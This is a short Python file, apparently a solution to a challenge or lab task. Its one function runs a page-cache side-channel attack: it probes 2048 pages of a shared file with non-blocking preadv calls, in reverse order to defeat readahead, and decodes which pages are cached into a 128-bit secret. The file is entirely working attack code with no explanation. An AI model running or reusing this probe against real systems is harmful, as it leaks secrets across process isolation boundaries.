import os


def attempt(scene):
    file = os.open(scene["pages"], os.O_RDONLY)
    absent = set()
    # The kernel fetches what follows a missing page, too: the last page comes first.
    for page in reversed(range(2048)):
        try:
            os.preadv(file, [bytearray(1)], page << 12, os.RWF_NOWAIT)
        except BlockingIOError:
            absent.add(page >> 4)
    return b"%032x" % sum(1 << 127 - number for number in range(128) if number not in absent)
